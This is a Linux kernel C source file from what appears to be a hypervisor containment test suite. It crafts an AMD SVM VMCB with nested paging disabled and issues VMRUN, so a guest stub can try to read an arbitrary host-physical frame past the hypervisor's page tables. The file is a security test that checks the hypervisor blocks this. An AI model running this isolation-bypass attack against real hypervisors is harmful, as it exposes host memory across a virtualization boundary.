// SPDX-License-Identifier: GPL-2.0
/*
 * VMRUN with a crafted VMCB (attack 8 of docs/containment.md). The VMCB describes a
 * 64-bit guest that shares the host's CR3 and has nested paging OFF, so if anything
 * ran it as given, the guest would see host-physical memory without the hypervisor's
 * NPT: its one instruction reads the target frame through the direct map
 * (l2_stub.S). On a bare kernel this proves the harness: the word comes back. Under
 * vbh the VMRUN must be refused (#UD) or run nested under vbh's NPT (the read fails).
 */
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <asm/desc.h>
#include <asm/msr-index.h>
#include <asm/segment.h>
#include <asm/special_insns.h>
#include <asm/svm.h>
#include "attack.h"
#include "nested.h"
#include "probe.h"

extern char vbh_attack_l2_stub[];

#define BIT32(n) (1u << ((n) % 32))
/* VMCB segment attributes (APM vol. 2 §15.5.1): type | S | DPL | P, then AVL L D G. */
#define ATTR_CODE64 0xa9b
#define ATTR_DATA 0xc93

static void seg(struct vmcb_seg *s, u16 sel, u16 attr)
{
	s->selector = sel;
	s->attrib = attr;
	s->limit = 0xffffffff;
	s->base = 0;
}

/*
 * The save area of a 64-bit L2 that runs on the host's own GDT, CR3, PAT and control
 * registers, at RIP with IDT and its stack in SVM_STACK; IF = 0. Shared with the
 * nested attacks (nest_craft), which give the L2 an IDT of its own.
 */
void vmcb_l2_save(struct vmcb *v, void *rip, const struct desc_ptr *idt)
{
	struct desc_ptr gdt;
	u64 pat = 0;

	seg(&v->save.cs, __KERNEL_CS, ATTR_CODE64);
	seg(&v->save.ss, __KERNEL_DS, ATTR_DATA);
	seg(&v->save.ds, __KERNEL_DS, ATTR_DATA);
	seg(&v->save.es, __KERNEL_DS, ATTR_DATA);
	native_store_gdt(&gdt);
	v->save.gdtr.base = gdt.address;
	v->save.gdtr.limit = gdt.size;
	v->save.idtr.base = idt->address;
	v->save.idtr.limit = idt->size;
	v->save.cpl = 0;
	probe_rdmsr(MSR_EFER, &v->save.efer);
	v->save.cr0 = native_read_cr0();
	v->save.cr3 = __native_read_cr3();
	v->save.cr4 = native_read_cr4();
	v->save.dr6 = 0xffff0ff0;
	v->save.dr7 = 0x400;
	v->save.rflags = X86_EFLAGS_FIXED; /* IF = 0 */
	v->save.rip = (u64)rip;
	v->save.rsp = (u64)svm_page(SVM_STACK) + PAGE_SIZE;
	probe_rdmsr(MSR_IA32_CR_PAT, &pat);
	v->save.g_pat = pat;
}

static void vmcb_craft(struct vmcb *v)
{
	struct desc_ptr idt;

	memset(v, 0, sizeof(*v));
	/* Every exception, INTR, NMI and SHUTDOWN exit to us: L2 runs no host handler. */
	v->control.intercepts[INTERCEPT_EXCEPTION_OFFSET / 32] = ~0u;
	v->control.intercepts[INTERCEPT_INTR / 32] =
		BIT32(INTERCEPT_INTR) | BIT32(INTERCEPT_NMI) | BIT32(INTERCEPT_SHUTDOWN) |
		BIT32(INTERCEPT_HLT);
	v->control.intercepts[INTERCEPT_VMRUN / 32] =
		BIT32(INTERCEPT_VMRUN) | BIT32(INTERCEPT_VMMCALL);
	v->control.asid = 1;
	v->control.tlb_ctl = TLB_CONTROL_FLUSH_ALL_ASID;
	v->control.nested_ctl = 0; /* no nested paging: guest-physical = host-physical */
	store_idt(&idt);
	vmcb_l2_save(v, vbh_attack_l2_stub, &idt);
}

/* VMRUN; on #VMEXIT GIF is 0 (APM vol. 2 §15.17) and STGI must follow. */
static int vmrun_once(u64 vmcb_pa, const void *target, u64 *word)
{
	unsigned long ax = vmcb_pa, cx = 0, flt;

	asm volatile(PROBE_BEGIN "vmrun %%rax" PROBE_END
		     : [flt] "=&r"(flt), "+a"(ax), "+c"(cx)
		     : "b"(target) : "memory");
	*word = cx;
	if (flt)
		return (int)ax;
	probe_stgi();
	return PROBE_OK;
}

int vmrun_attack(int argc, const u64 *a)
{
	struct vmcb *v = svm_page(SVM_VMCB);
	void *hsave = svm_page(SVM_HSAVE);
	u64 efer, old_hsave = 0, word = 0, want = 0;
	int t, t_hsave, t_want, tries = 0;
	unsigned long flags;

	if (!v || !hsave || !svm_page(SVM_STACK))
		return -ENOMEM;
	t_want = probe_read64(phys_to_virt(PFN_PHYS(a[0])), &want);
	local_irq_save(flags);
	svm_on(&efer);
	probe_rdmsr(MSR_VM_HSAVE_PA, &old_hsave);
	t_hsave = probe_wrmsr(MSR_VM_HSAVE_PA, __pa(hsave));
	do {	/* an interrupt or NMI exit before the stub ran: go again */
		vmcb_craft(v);
		t = vmrun_once(__pa(v), phys_to_virt(PFN_PHYS(a[0])), &word);
	} while (t == PROBE_OK && (v->control.exit_code == SVM_EXIT_INTR ||
				   v->control.exit_code == SVM_EXIT_NMI) && ++tries < 100);
	if (t_hsave == PROBE_OK)
		probe_wrmsr(MSR_VM_HSAVE_PA, old_hsave);
	svm_restore(efer);
	local_irq_restore(flags);
	if (t_want == PROBE_OK)
		out("expect=0x%llx ", want);
	else
		out("expect=fault ");
	if (t != PROBE_OK)
		out("result=fault trap=%d hsave_trap=%d\n", t, t_hsave);
	else if (v->control.exit_code == SVM_EXIT_VMMCALL)
		out("result=ran exit=0x%x word=0x%llx\n", v->control.exit_code, word);
	else
		out("result=exited exit=0x%x info1=0x%llx info2=0x%llx\n",
		    v->control.exit_code, v->control.exit_info_1, v->control.exit_info_2);
	return 0;
}
